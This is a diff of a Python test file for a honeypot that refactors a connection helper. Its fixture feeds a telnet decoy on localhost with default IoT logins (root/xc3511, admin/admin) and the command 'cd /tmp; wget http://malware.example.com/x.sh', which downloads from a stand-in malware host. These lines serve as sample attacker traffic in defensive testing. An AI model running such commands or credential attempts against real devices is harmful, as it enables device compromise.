@@ -13,24 +13,13 @@ import urllib.request
 import pytest
 
 import honeypot_logs
-from noroshi import PATIENCE, Node, converse, wait_until
+from noroshi import PATIENCE, Node, converse, visit_from, wait_until
 from remote import Relay, RemoteSensor, enrol, peer_address, sensor
 from test_disk import SmallDisk
 
 LISTEN = ("telnet@router:127.0.0.1:0,http@nginx:127.0.0.1:0,https@nginx:127.0.0.1:0,redis:127.0.0.1:0,udp:127.0.0.1:0,"
           "any:127.0.0.0/24:0,http@nginx+nas+camera:127.0.0.0/24:0")
 EMPTY_OF_TIME = ("uptime", "time", "took_ms", "ms")
-
-
-def visit(port, source, *said):
-    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE, source_address=(source, 0)) as connection:
-        connection.settimeout(PATIENCE)
-        for words in said:
-            connection.recv(65536)
-            connection.sendall(words)
-        connection.shutdown(socket.SHUT_WR)
-        while connection.recv(65536):
-            pass
 
 
 def fingerprint(port, host="127.0.0.1"):
@@ -133,8 +122,8 @@ class Load:
 def fill(node, folder):
     """Something of everything that a node keeps."""
     port = {each["decoy"]: each["port"] for each in node.status()["listeners"] if "/" not in each["address"]}
-    visit(port["telnet"], "127.0.0.2", b"root\r\n", b"xc3511\r\n", b"cd /tmp; wget http://malware.example.com/x.sh\r\n")
-    visit(port["telnet"], "127.0.0.3", b"admin\r\n", b"admin\r\n")
+    visit_from("127.0.0.2", port["telnet"], b"root\r\n", b"xc3511\r\n", b"cd /tmp; wget http://malware.example.com/x.sh\r\n")
+    visit_from("127.0.0.3", port["telnet"], b"admin\r\n", b"admin\r\n")
     converse(port["http"], b"GET /before HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
     converse(port["redis"], b"*1\r\n$4\r\nINFO\r\n")
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
